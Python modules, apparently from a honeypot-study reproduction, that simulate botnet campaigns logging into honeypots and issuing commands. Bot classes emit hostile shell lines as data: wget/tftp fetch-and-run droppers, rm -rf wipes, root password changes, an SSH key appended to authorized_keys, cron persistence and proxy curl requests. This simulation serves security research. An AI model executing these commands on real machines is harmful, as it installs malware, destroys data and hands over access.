    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "richard_scanner", population, tree, paper_ips=6_000,
            scale=config.scale, min_size=20,
        )
        activity = SumRate(
            [
                ConstantRate(100, config.start, config.end),
                LinearTrend(date(2023, 6, 1), config.end, 0, 150),
            ]
        )
        super().__init__("richard_scanner", activity, pool)

    def client_ip(self, rng: random.Random) -> str:
        return self.pool.pick_uniform(rng)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        return self.make_intent(
            rng,
            credentials=(("richard", rng.choice(("richard", "fout", "12345"))),),
            duration_s=rng.uniform(0.2, 2.0),
        )
