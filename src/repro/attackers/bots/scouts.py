"""Non-state-changing command bots — the "exploration" ecosystem.

These bots log in and gather information without touching the
filesystem (Figure 2): echo-based liveness probes (echo_OK and
friends), uname/nproc fingerprinters, busybox self-checks, and the
assorted scouting campaigns the paper's classification names.  Their
aggregate volume carries Figure 1's 2023 shift toward exploratory
sessions.
"""

from __future__ import annotations

import random
from datetime import date
from typing import Callable

from repro.attackers.activity import (
    ActivityModel,
    Campaign,
    ConstantRate,
    LinearTrend,
    Wave,
)
from repro.attackers.base import Bot, BotContext
from repro.attackers.dictionary import root_credential
from repro.attackers.ippool import ClientIPPool
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

LinesBuilder = Callable[[random.Random], tuple[str, ...]]


class ScoutBot(Bot):
    """A bot that logs in as root and runs info-gathering lines."""

    def __init__(
        self,
        name: str,
        activity: ActivityModel,
        pool: ClientIPPool,
        lines: LinesBuilder,
    ) -> None:
        super().__init__(name, activity, pool)
        self._lines = lines

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=self._lines(rng),
        )


def _uuid_like(rng: random.Random) -> str:
    digits = "0123456789abcdef"

    def chunk(length: int) -> str:
        return "".join(rng.choice(digits) for _ in range(length))

    return f"{chunk(8)}-{chunk(4)}-{chunk(4)}-{chunk(4)}-{chunk(12)}"


def build_scout_bots(
    population: BasePopulation, tree: RngTree, config: SimulationConfig
) -> list[Bot]:
    """The full roster of non-state-changing command bots."""

    def pool(name: str, paper_ips: int) -> ClientIPPool:
        return ClientIPPool(name, population, tree, paper_ips, config.scale)

    start, end = config.start, config.end
    shift = date(2023, 1, 1)  # Figure 1's behavioural break
    bots: list[Bot] = []

    # echo_OK: the dominant liveness probe, >80 % of non-state sessions,
    # stepping up when the exploratory era begins in 2023.
    bots.append(
        ScoutBot(
            "echo_OK",
            ConstantRate(54_000, start, date(2022, 12, 31))
            + ConstantRate(92_000, shift, end),
            pool("echo_OK", 150_000),
            lambda rng: (r'echo -e "\x6F\x6B"',),
        )
    )
    bots.append(
        ScoutBot(
            "echo_ok_txt",
            ConstantRate(1_000, start, end),
            pool("echo_ok_txt", 8_000),
            lambda rng: ("echo ok",),
        )
    )
    bots.append(
        ScoutBot(
            "echo_ssh_check",
            ConstantRate(400, start, end),
            pool("echo_ssh_check", 3_000),
            lambda rng: ('echo "SSH check"',),
        )
    )
    bots.append(
        ScoutBot(
            "echo_os_check",
            Campaign(date(2024, 2, 1), end, 1_500),
            pool("echo_os_check", 4_000),
            lambda rng: (f"echo {_uuid_like(rng)}",),
        )
    )
    bots.append(
        ScoutBot(
            "uname_a",
            Wave(date(2022, 3, 1), 30, 15_000) + Wave(date(2024, 3, 15), 40, 9_000),
            pool("uname_a", 40_000),
            lambda rng: ("uname -a",),
        )
    )
    bots.append(
        ScoutBot(
            "uname_svnrm",
            ConstantRate(3_500, start, end),
            pool("uname_svnrm", 20_000),
            lambda rng: ("uname -s -v -n -r -m",),
        )
    )
    bots.append(
        ScoutBot(
            "uname_svnr",
            ConstantRate(900, start, end),
            pool("uname_svnr", 6_000),
            lambda rng: ("uname -s -v -n -r",),
        )
    )
    bots.append(
        ScoutBot(
            "uname_svnr_model",
            Campaign(date(2023, 11, 1), date(2024, 4, 30), 2_500),
            pool("uname_svnr_model", 7_000),
            lambda rng: (
                "uname -s -v -n -r",
                "cat /proc/cpuinfo | grep 'model name' | head -n 1",
            ),
        )
    )
    bots.append(
        ScoutBot(
            "uname_a_nproc",
            Campaign(date(2023, 2, 1), date(2023, 6, 30), 5_000),
            pool("uname_a_nproc", 12_000),
            lambda rng: ("uname -a", "nproc"),
        )
    )
    bots.append(
        ScoutBot(
            "uname_snri_nproc",
            LinearTrend(date(2023, 9, 1), end, 2_000, 8_000),
            pool("uname_snri_nproc", 15_000),
            lambda rng: ("uname -s -n -r -i", "nproc"),
        )
    )
    bots.append(
        ScoutBot(
            "bbox_scout_cat",
            Campaign(date(2022, 5, 15), date(2022, 9, 15), 12_000)
            + Campaign(date(2023, 4, 1), date(2023, 8, 15), 9_000),
            pool("bbox_scout_cat", 30_000),
            lambda rng: (
                "/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
            ),
        )
    )
    bots.append(
        ScoutBot(
            "ak47_scout",
            Campaign(date(2023, 10, 1), date(2024, 2, 15), 4_000),
            pool("ak47_scout", 9_000),
            lambda rng: (r'echo -e "\x41\x4b\x34\x37"', "echo writable"),
        )
    )
    bots.append(
        ScoutBot(
            "shell_fp",
            ConstantRate(1_300, start, end),
            pool("shell_fp", 5_000),
            lambda rng: ("echo $SHELL", "dd bs=22 count=1 if=/proc/self/exe"),
        )
    )
    bots.append(
        ScoutBot(
            "binx86",
            Wave(date(2022, 8, 1), 25, 3_000),
            pool("binx86", 6_000),
            lambda rng: ("lscpu | grep 'CPU(s):'", "echo bin.x86_64"),
        )
    )
    bots.append(
        ScoutBot(
            "export_vei",
            Wave(date(2023, 6, 15), 20, 2_500),
            pool("export_vei", 5_000),
            lambda rng: ("export VEI=1", "uname -a"),
        )
    )
    bots.append(
        ScoutBot(
            "cloud_print",
            ConstantRate(300, start, end),
            pool("cloud_print", 2_000),
            lambda rng: ('echo "cloud print test"',),
        )
    )
    bots.append(
        ScoutBot(
            "juicessh",
            ConstantRate(250, start, end),
            pool("juicessh", 2_000),
            lambda rng: ("echo juicessh", "uptime"),
        )
    )
    return bots
