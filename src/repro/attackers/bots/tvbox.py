"""TV-box botnet: default-credential Mirai recruitment (section 8).

Two synchronized credential streams — ``dreambox`` (Dreambox Enigma
set-top boxes) and ``vertex25ektks123`` (Dasan H660DW) — log in with
device default passwords, fetch a stager and run it.  Their volumes
move in lockstep in Figure 10 because they are one botnet; the few
captured hashes are labelled Mirai by abuse databases.
"""

from __future__ import annotations

import random
from datetime import date

from repro.attackers.activity import ActivityModel, Campaign, SumRate
from repro.attackers.base import Bot, BotContext
from repro.attackers.ippool import ClientIPPool
from repro.attackers.malware import MalwareFamily
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree


def tvbox_activity(config: SimulationConfig) -> ActivityModel:
    """The shared (synchronized) wave schedule of both streams."""
    return SumRate(
        [
            Campaign(date(2023, 3, 1), date(2023, 6, 30), 4_800),
            Campaign(date(2024, 1, 10), date(2024, 5, 20), 7_000),
        ]
    )


class TvBoxBot(Bot):
    """One credential stream of the TV-box Mirai botnet."""

    telnet_fraction = 0.10

    def __init__(
        self,
        password: str,
        population: BasePopulation,
        tree: RngTree,
        config: SimulationConfig,
        activity: ActivityModel,
    ) -> None:
        name = f"tvbox_{password}"
        pool = ClientIPPool(
            name, population, tree, paper_ips=30_000, scale=config.scale
        )
        super().__init__(name, activity, pool)
        self.password = password

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        sample = ctx.malware.sample_for(
            MalwareFamily.MIRAI, stream="tvbox",
            day_ordinal=day.toordinal(), strain="tvbox",
        )
        host = ctx.infrastructure.pick_host(rng, day)
        url = host.url_for("tvbox.sh")
        captured = rng.random() < 0.08
        remote = ((url, sample.content),) if captured else ()
        lines = (
            "cd /tmp",
            f"wget {url} -O tvbox.sh",
            "sh tvbox.sh",
        )
        return self.make_intent(
            rng,
            credentials=(("root", self.password),),
            command_lines=lines,
            remote_files=remote,
        )


def build_tvbox_bots(
    population: BasePopulation, tree: RngTree, config: SimulationConfig
) -> list[Bot]:
    activity = tvbox_activity(config)
    return [
        TvBoxBot("dreambox", population, tree, config, activity),
        TvBoxBot("vertex25ektks123", population, tree, config, activity),
    ]
