"""The ``curl_maxred`` proxy-abuse campaign (section 5, "Web attacks").

Four client IPs in a Russian hosting AS connect to 180 of the 221
honeypots between January and April 2024 and run ~100 ``curl`` commands
per session against Russian/Ukrainian e-commerce, crypto and media
sites — abusing the honeypot (whose curl actually performs requests) as
a proxy.  Each request carries a unique cookie, consistent with either
DDoS or stolen-cookie testing.  ~200k sessions, ~20M requests.
"""

from __future__ import annotations

import random
from datetime import date

from repro.attackers.activity import Campaign
from repro.attackers.base import Bot, BotContext, random_password
from repro.attackers.ippool import ClientIPPool
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.asn import ASType
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: Campaign window (paper: January–April 2024).
CAMPAIGN_START = date(2024, 1, 5)
CAMPAIGN_END = date(2024, 4, 20)

#: How many of the fleet's honeypots the four clients target.
TARGETED_HONEYPOTS = 180

#: Synthetic stand-ins for the >100 targeted RU/UA sites (economy,
#: trade, crypto, e-commerce, Telegram bots, gaming — section 5).
TARGET_DOMAINS: tuple[str, ...] = tuple(
    f"{kind}-{index:02d}.{tld}"
    for kind in (
        "market", "trade", "crypto-exchange", "shop", "tgbot",
        "game-portal", "pharm", "econom",
    )
    for index in range(8)
    for tld in ("ru.invalid", "ua.invalid")
)


class CurlMaxredBot(Bot):
    """~100 unique-cookie curl requests per session through the shell."""

    min_expected_per_day = 0.15

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "curl_maxred",
            population,
            tree,
            paper_ips=4,
            scale=1.0,  # exactly four client IPs at any scale
            as_type=ASType.HOSTING,
            min_size=4,
        )
        super().__init__(
            "curl_maxred",
            Campaign(CAMPAIGN_START, CAMPAIGN_END, 1_900),
            pool,
        )

    def choose_honeypot_index(self, rng: random.Random, fleet_size: int) -> int:
        return rng.randrange(min(TARGETED_HONEYPOTS, fleet_size))

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        lines = []
        for _ in range(rng.randint(90, 110)):
            domain = rng.choice(TARGET_DOMAINS)
            method = rng.choice(("GET", "POST"))
            cookie = random_password(rng, 24, "abcdef0123456789")
            lines.append(
                f"curl https://{domain}/ -s -X {method} --max-redirs 5 "
                f"--compressed --cookie 'sid={cookie}' --raw "
                f"--referer 'https://{domain}/'"
            )
        return self.make_intent(
            rng,
            credentials=(("root", "admin"),),
            command_lines=tuple(lines),
            duration_s=200.0,
            hold_open=True,
        )
