"""Named attack campaigns with distinctive trigger tokens.

Each of these corresponds to one Table-1 category keyed on a literal
token (``sora``, ``ohshit``, ``update.sh``, the rapperbot key prefix,
...).  The two slur-named campaigns from the paper are reproduced with
sanitized placeholder tokens (``fslurtoken`` / ``gslurtoken``) per
DESIGN.md, so the matching logic is exercised without reproducing hate
speech.
"""

from __future__ import annotations

import random
from datetime import date
from typing import Callable

from repro.attackers.activity import ActivityModel, Campaign, Wave
from repro.attackers.base import SAFE_NAME_ALPHABET, Bot, BotContext, random_password
from repro.attackers.dictionary import root_credential
from repro.attackers.ippool import ClientIPPool
from repro.attackers.malware import MalwareFamily, MalwareSample
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: The rapperbot persistence key: matches the category regex prefix
#: ``ssh-rsa AAAAB3NzaC1yc2EAAAADAQABA`` (distinct from the mdrfckr key).
RAPPERBOT_KEY = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAQCul8iK9N6Y2Cq0Kq rapper@bot"
)

LinesBuilder = Callable[
    [random.Random, str, MalwareSample, bool],
    tuple[tuple[str, ...], tuple[tuple[str, bytes], ...]],
]


class CampaignBot(Bot):
    """A campaign whose sessions follow one scripted dropper shape."""

    def __init__(
        self,
        name: str,
        activity: ActivityModel,
        pool: ClientIPPool,
        family: MalwareFamily,
        lines_builder: LinesBuilder,
        capture: float = 0.35,
        strain: str = "default",
    ) -> None:
        super().__init__(name, activity, pool)
        self.family = family
        self._builder = lines_builder
        self.capture = capture
        self.strain = strain

    #: fraction of sessions serving the payload from the client itself
    self_host_fraction = 0.15

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        sample = ctx.malware.sample_for(
            self.family, stream=self.name, day_ordinal=day.toordinal(),
            strain=self.strain,
        )
        client = self.client_ip(rng)
        if rng.random() < self.self_host_fraction:
            host_ip = client
        else:
            host_ip = ctx.infrastructure.pick_host(rng, day).ip
        captured = rng.random() < self.capture
        lines, remote = self._builder(rng, host_ip, sample, captured)
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
            remote_files=remote,
            client_ip=client,
        )


def _fetch_exec(
    filename: str, extra: tuple[str, ...] = (), runner: str = "sh"
) -> LinesBuilder:
    """Standard wget → run shape with a campaign-specific filename."""

    def build(
        rng: random.Random, host_ip: str, sample: MalwareSample, captured: bool
    ) -> tuple[tuple[str, ...], tuple[tuple[str, bytes], ...]]:
        url = f"http://{host_ip}/{filename}"
        run = f"{runner} {filename}" if runner else f"./{filename}"
        lines = ("cd /tmp", f"wget {url}", f"chmod +x {filename}", run) + extra
        remote = ((url, sample.content),) if captured else ()
        return lines, remote

    return build


def build_named_campaign_bots(
    population: BasePopulation, tree: RngTree, config: SimulationConfig
) -> list[Bot]:
    """All token-keyed campaigns from Table 1."""

    def pool(name: str, paper_ips: int = 10_000) -> ClientIPPool:
        return ClientIPPool(name, population, tree, paper_ips, config.scale)

    start, end = config.start, config.end
    bots: list[Bot] = []

    def add(
        name: str,
        activity: ActivityModel,
        family: MalwareFamily,
        builder: LinesBuilder,
        capture: float = 0.35,
    ) -> None:
        bots.append(
            CampaignBot(name, activity, pool(name), family, builder, capture)
        )

    add(
        "fslur_attack",
        Campaign(date(2022, 2, 1), date(2022, 5, 31), 800),
        MalwareFamily.GAFGYT,
        _fetch_exec("fslurtoken.sh"),
    )

    def gslur_lines(rng, host_ip, sample, captured):
        lines = (
            "echo gslurtoken > /tmp/.g",
            "cat /tmp/.g",
            "rm /tmp/.g",
        )
        return lines, ()

    bots.append(
        CampaignBot(
            "gslur_echo",
            Campaign(start, date(2022, 6, 30), 1_000),
            pool("gslur_echo"),
            MalwareFamily.UNKNOWN,
            gslur_lines,
        )
    )
    add(
        "ohshit_attack",
        Wave(date(2022, 7, 10), 20, 600),
        MalwareFamily.GAFGYT,
        _fetch_exec("ohshit.sh"),
    )
    add(
        "onions_attack",
        Wave(date(2022, 4, 15), 15, 500),
        MalwareFamily.MIRAI,
        _fetch_exec("onions1337.x86", runner=""),
    )
    add(
        "sora_attack",
        Wave(date(2022, 3, 10), 18, 900) + Wave(date(2023, 2, 20), 18, 700),
        MalwareFamily.MIRAI,
        _fetch_exec("sora.sh"),
    )
    add(
        "heisen_attack",
        Wave(date(2023, 5, 12), 15, 300),
        MalwareFamily.GAFGYT,
        _fetch_exec("Heisenberg.sh"),
    )
    add(
        "zeus_attack",
        Wave(date(2022, 10, 5), 20, 300),
        MalwareFamily.MALICIOUS,
        _fetch_exec("Zeus.arm"),
        capture=0.3,
    )
    add(
        "update_attack",
        Campaign(date(2022, 1, 10), date(2023, 6, 30), 600),
        MalwareFamily.DOFLOO,
        _fetch_exec("update.sh"),
    )

    def wget_dget_lines(rng, host_ip, sample, captured):
        url = f"http://{host_ip}/d4"
        lines = (
            "cd /tmp",
            f"wget -4 {url} -O d4",
            f"dget -4 {url}",
            "chmod 777 d4",
            "./d4",
        )
        remote = ((url, sample.content),) if captured else ()
        return lines, remote

    bots.append(
        CampaignBot(
            "wget_dget",
            Campaign(date(2022, 8, 1), date(2023, 8, 31), 700),
            pool("wget_dget"),
            MalwareFamily.MIRAI,
            wget_dget_lines,
        )
    )

    def rm_obf1_lines(rng, host_ip, sample, captured):
        filename = random_password(rng, 5, SAFE_NAME_ALPHABET)
        url = f"http://{host_ip}/{filename}"
        lines = (
            "rm -rf *;cd /tmp ; rm -rf *",
            "echo x0x0x0",
            f"wget {url}",
            f"sh {filename}",
        )
        remote = ((url, sample.content),) if captured else ()
        return lines, remote

    bots.append(
        CampaignBot(
            "rm_obf_pattern_1",
            Campaign(date(2023, 2, 1), end, 700),
            pool("rm_obf_pattern_1"),
            MalwareFamily.GAFGYT,
            rm_obf1_lines,
            capture=0.15,
        )
    )

    def rm_obf7_lines(rng, host_ip, sample, captured):
        filename = random_password(rng, 6, SAFE_NAME_ALPHABET)
        url = f"http://{host_ip}/{filename}"
        lines = (
            "cd /tmp;rm -rf /tmp/* || cd /var/run || cd /mnt || "
            "cd /root;rm -rf /root/* || cd /",
            f"wget {url}; chmod 777 {filename}; ./{filename}",
        )
        remote = ((url, sample.content),) if captured else ()
        return lines, remote

    bots.append(
        CampaignBot(
            "rm_obf_pattern_7",
            Campaign(date(2022, 3, 1), date(2023, 10, 31), 650),
            pool("rm_obf_pattern_7"),
            MalwareFamily.DOFLOO,
            rm_obf7_lines,
        )
    )

    def passwd123_lines(rng, host_ip, sample, captured):
        url = f"http://{host_ip}/daemon.arm"
        lines = (
            'echo "daemon:Password123"|chpasswd',
            f"wget {url} -O /tmp/daemon.arm",
            "chmod +x /tmp/daemon.arm",
            "/tmp/daemon.arm",
        )
        remote = ((url, sample.content),) if captured else ()
        return lines, remote

    bots.append(
        CampaignBot(
            "passwd123_daemon",
            Campaign(date(2022, 5, 1), date(2023, 10, 31), 600),
            pool("passwd123_daemon"),
            MalwareFamily.GAFGYT,
            passwd123_lines,
        )
    )

    def rapperbot_lines(rng, host_ip, sample, captured):
        url = f"http://{host_ip}/rb.arm7"
        lines = (
            f'echo "{RAPPERBOT_KEY}" >> ~/.ssh/authorized_keys',
            f"wget {url} -O /tmp/rb.arm7",
            "chmod 777 /tmp/rb.arm7",
            "/tmp/rb.arm7 rapperbot",
        )
        remote = ((url, sample.content),) if captured else ()
        return lines, remote

    bots.append(
        CampaignBot(
            "rapperbot",
            Campaign(date(2022, 6, 15), date(2023, 4, 15), 1_200),
            pool("rapperbot", paper_ips=25_000),
            MalwareFamily.MIRAI,
            rapperbot_lines,
            capture=0.25,
        )
    )
    return bots
