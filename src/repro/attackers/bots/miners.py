"""Credential-rotation, miner-staging and consistency-probe bots.

The mid-size Figure 3(a) categories: bots that change the root password
(``root_12_char_*``, ``root_17_char_pwd``, ``openssl_passwd``), stage
miner scripts without running them (``perl_dred_miner``, ``stx_miner``),
abuse cron (``clamav``), or write-and-check files to detect honeypots
(``lenni_0451``).
"""

from __future__ import annotations

import random
from datetime import date
from typing import Callable

from repro.attackers.activity import ActivityModel, Campaign, ConstantRate, Wave
from repro.attackers.base import ALNUM, Bot, BotContext, random_password
from repro.attackers.dictionary import root_credential
from repro.attackers.ippool import ClientIPPool
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

LinesFn = Callable[[random.Random], tuple[str, ...]]


class ScriptedStateBot(Bot):
    """Root login followed by a scripted state-changing sequence."""

    def __init__(
        self,
        name: str,
        activity: ActivityModel,
        pool: ClientIPPool,
        lines: LinesFn,
    ) -> None:
        super().__init__(name, activity, pool)
        self._lines = lines

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=self._lines(rng),
        )


_CAPSCOUT_AWK = "awk '{print $4,$5,$6,$7,$8,$9;}'"


def build_miner_bots(
    population: BasePopulation, tree: RngTree, config: SimulationConfig
) -> list[Bot]:
    """The Figure 3(a) mid-tier roster."""

    def pool(name: str, paper_ips: int = 8_000) -> ClientIPPool:
        return ClientIPPool(name, population, tree, paper_ips, config.scale)

    start, end = config.start, config.end
    bots: list[Bot] = []

    def add(name: str, activity: ActivityModel, lines: LinesFn) -> None:
        bots.append(ScriptedStateBot(name, activity, pool(name), lines))

    add(
        "root_17_char_pwd",
        ConstantRate(600, start, end),
        lambda rng: (
            f'echo "root:{random_password(rng, 17, ALNUM)}"|chpasswd',
            "history -c",
        ),
    )
    add(
        "root_12_char_capscout",
        Campaign(date(2023, 1, 1), date(2023, 9, 30), 1_200),
        lambda rng: (
            f'echo "root:{random_password(rng, 12, ALNUM)}"|chpasswd',
            f"cat /proc/cpuinfo | grep name | head -n 1 | {_CAPSCOUT_AWK}",
        ),
    )
    add(
        "root_12_char_echo321",
        Campaign(date(2023, 3, 1), date(2023, 12, 31), 1_500),
        lambda rng: (
            f'echo "root:{random_password(rng, 12, ALNUM)}"|chpasswd',
            "echo 321",
        ),
    )
    add(
        "openssl_passwd",
        Wave(date(2022, 11, 15), 40, 1_500),
        lambda rng: (
            f"openssl passwd -1 {random_password(rng, 8, ALNUM)}",
            f'echo "root:{random_password(rng, 10, ALNUM)}"|chpasswd',
        ),
    )
    add(
        "clamav",
        Campaign(date(2022, 2, 1), date(2022, 8, 31), 900),
        lambda rng: (
            "crontab -l",
            'echo "*/5 * * * * /usr/bin/clamav-refresh" > /tmp/clamav.cron',
            "crontab /tmp/clamav.cron",
        ),
    )
    add(
        "lenni_0451",
        Campaign(date(2024, 1, 1), date(2024, 6, 30), 700),
        lambda rng: (
            f"echo lenni0451-{random_password(rng, 6, ALNUM)} > /tmp/.lenni",
            "cat /tmp/.lenni",
        ),
    )
    add(
        "stx_miner",
        Wave(date(2023, 7, 10), 30, 800),
        lambda rng: (
            "export LC_ALL=C",
            "echo stx > /tmp/.stx_lock",
            "nproc",
        ),
    )
    add(
        "perl_dred_miner",
        Wave(date(2022, 5, 20), 35, 700),
        lambda rng: (
            "echo '#!/usr/bin/perl' > /tmp/dred.pl",
            "echo '# dred stage two' >> /tmp/dred.pl",
            "crontab -l",
        ),
    )
    return bots
