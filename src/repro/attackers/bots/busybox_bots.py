"""BusyBox-based loader bots (paper section 5, "File exec").

``bb_5_diff_char_v2`` and ``bbox_unlabelled`` are the two leading
file-exec bots in Figure 3(b): both lean on ``/bin/busybox`` to stage
and run payloads on IoT-class targets.  ``bbox_unlabelled`` ends
abruptly in mid-2022 (a takedown or retirement); ``bb_5_diff_char_v2``
runs through the whole window, but its infrastructure stops serving
files to honeypots after 2022 — which is half of Figure 4(a)'s story.
"""

from __future__ import annotations

import random
from datetime import date

from repro.attackers.activity import Campaign, ConstantRate, Wave
from repro.attackers.base import SAFE_NAME_ALPHABET, UPPER5, Bot, BotContext, random_password
from repro.attackers.dictionary import root_credential
from repro.attackers.ippool import ClientIPPool
from repro.attackers.malware import MalwareFamily
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: The campaign's abrupt end (paper: "ends in mid-2022").
BBOX_UNLABELLED_END = date(2022, 7, 15)


def _marker(rng: random.Random, length: int = 5) -> str:
    return random_password(rng, length, UPPER5)


class Bbox5CharBot(Bot):
    """``bb_5_diff_char_v2``: busybox probe + wget/tftp loader."""

    telnet_fraction = 0.15

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "bbox_5_char_v2", population, tree, paper_ips=60_000,
            scale=config.scale,
        )
        super().__init__(
            "bbox_5_char_v2",
            ConstantRate(3_200, config.start, config.end),
            pool,
        )

    @staticmethod
    def capture_probability(day: date) -> float:
        return 0.45 if day < date(2023, 1, 1) else 0.03

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        marker = _marker(rng)
        sample = ctx.malware.sample_for(
            MalwareFamily.MIRAI, stream=self.name,
            day_ordinal=day.toordinal(), strain="bb5",
        )
        host = ctx.infrastructure.pick_host(rng, day)
        filename = "".join(rng.choice(SAFE_NAME_ALPHABET) for _ in range(5))
        http_url = host.url_for(filename)
        tftp_url = host.url_for(filename, scheme="tftp")
        captured = rng.random() < self.capture_probability(day)
        remote = ((http_url, sample.content), (tftp_url, sample.content)) if captured else ()
        lines = (
            f"/bin/busybox {marker}",
            "cd /tmp || cd /var/run || cd /mnt",
            f"/bin/busybox tftp -g -r {filename} {host.ip}; "
            f"/bin/busybox wget {http_url} -O {filename}",
            f"/bin/busybox chmod 777 {filename}",
            f"./{filename} {marker.lower()}",
            f"/bin/busybox {marker}",
        )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
            remote_files=remote,
        )


class BboxUnlabelledBot(Bot):
    """The unlabelled busybox campaign that vanishes mid-2022.

    Two sub-variants (paper section 5): one fetches over wget/tftp (so
    the honeypot captures the file), the other assumes an out-of-band
    transfer and just executes — which the honeypot records as a
    missing-file execution.
    """

    telnet_fraction = 0.25

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "bbox_unlabelled", population, tree, paper_ips=80_000,
            scale=config.scale,
        )
        super().__init__(
            "bbox_unlabelled",
            Campaign(config.start, BBOX_UNLABELLED_END, 12_000),
            pool,
        )

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        sample = ctx.malware.sample_for(
            MalwareFamily.MIRAI, stream=self.name,
            day_ordinal=day.toordinal(), strain="unlabelled",
        )
        filename = "".join(rng.choice(SAFE_NAME_ALPHABET) for _ in range(4))
        if rng.random() < 0.5:
            host = ctx.infrastructure.pick_host(rng, day)
            url = host.url_for(filename)
            captured = rng.random() < 0.6
            remote = ((url, sample.content),) if captured else ()
            lines = (
                "busybox ps",
                f"busybox wget {url} -O /tmp/{filename}",
                f"busybox chmod 777 /tmp/{filename}",
                f"/tmp/{filename}",
            )
        else:
            # out-of-band variant: the file was never introduced via the
            # shell, so the execution can only record "file missing".
            remote = ()
            lines = (
                "busybox ps",
                f"busybox chmod 777 /tmp/{filename}",
                f"/tmp/{filename}",
            )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
            remote_files=remote,
        )


class BboxLoaderWgetBot(Bot):
    """``bbox_loaderwget``: fetches a stager literally named loader.wget."""

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "bbox_loaderwget", population, tree, paper_ips=15_000,
            scale=config.scale,
        )
        super().__init__(
            "bbox_loaderwget",
            Campaign(date(2022, 1, 1), date(2022, 9, 30), 800),
            pool,
        )

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        sample = ctx.malware.sample_for(
            MalwareFamily.GAFGYT, stream=self.name,
            day_ordinal=day.toordinal(),
        )
        host = ctx.infrastructure.pick_host(rng, day)
        url = host.url_for("loader.wget")
        captured = rng.random() < 0.5
        remote = ((url, sample.content),) if captured else ()
        lines = (
            f"wget {url} -O /tmp/loader.wget",
            "sh /tmp/loader.wget",
        )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
            remote_files=remote,
        )


class BboxEchoElfBot(Bot):
    """``bbox_echo_elf``: writes an ELF header byte-by-byte via echo."""

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "bbox_echo_elf", population, tree, paper_ips=8_000,
            scale=config.scale,
        )
        super().__init__(
            "bbox_echo_elf", Wave(date(2022, 11, 10), 25, 600), pool
        )

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        sample = ctx.malware.sample_for(
            MalwareFamily.MIRAI, stream=self.name,
            day_ordinal=day.toordinal(), strain="echoelf",
        )
        escaped = "".join(f"\\x{byte:02x}" for byte in sample.content[:24])
        # the leading bytes spell \x7f\x45\x4c\x46 — the ELF magic the
        # category regex keys on
        lines = (
            "/bin/busybox ps",
            "cd /tmp",
            f'echo -ne "{escaped}" > .e',
            "chmod 777 .e",
            "./.e",
            "rm -rf .e",
        )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
        )


class BboxRandExecBot(Bot):
    """``bbox_rand_exec``: writes random bytes and tries to run them.

    The paper flags this pattern as a honeypot-consistency probe: a
    throwaway random file whose fate reveals emulation.
    """

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig, exec_file: bool = True) -> None:
        suffix = "" if exec_file else "#noexec"
        pool = ClientIPPool(
            f"bbox_rand_exec{suffix}", population, tree, paper_ips=10_000,
            scale=config.scale,
        )
        activity = (
            Campaign(date(2022, 4, 1), date(2023, 3, 31), 700)
            if exec_file
            else Campaign(date(2022, 4, 1), date(2023, 12, 31), 500)
        )
        super().__init__(f"bbox_rand_exec{suffix}", activity, pool)
        self.exec_file = exec_file

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        lines = [
            "cd /tmp",
            "/bin/busybox dd if=/dev/urandom of=.r bs=32 count=1",
        ]
        if self.exec_file:
            lines.extend(["/bin/busybox chmod 777 .r", "./.r"])
        lines.append("ls -la .r")
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=tuple(lines),
        )
