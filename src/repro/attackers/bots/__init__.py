"""Bot implementations, grouped by behaviour family."""
