"""Background noise: scanners, scouting brute-forcers, silent intruders.

These three produce the paper's section-3.3 category volumes that are
